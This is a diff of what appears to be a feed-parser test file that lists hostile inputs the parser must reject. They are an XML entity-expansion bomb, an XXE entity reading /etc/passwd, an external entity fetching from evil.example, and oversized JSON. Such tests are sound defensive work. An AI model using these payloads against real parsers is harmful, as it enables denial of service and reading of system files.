@@ -264,8 +264,8 @@ ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)
         (b'{"version": "https://jsonfeed.org/version/1", "items": 3}', "not a JSON Feed"),
         (b"{" + b'"a":[' * 100_000, "JSON that cannot be read"),
         (b'{"a": ' + b"9" * 10_000 + b"}", "JSON"),
-        (f'<!DOCTYPE rss [<!ENTITY a0 "x">{ENTITIES}]><rss><channel><title>&a8;</title></channel></rss>'.encode(),
-         "entities"),
+        (f'<!DOCTYPE rss [<!ENTITY a0 "x">{ENTITIES}]><rss><channel><title>&a8;</title>'
+         "</channel></rss>".encode(), "entities"),
         (b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title></item>'
          b"</channel></rss>", "entities"),
         (b'<!-- x --><?pi?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><rss/>',
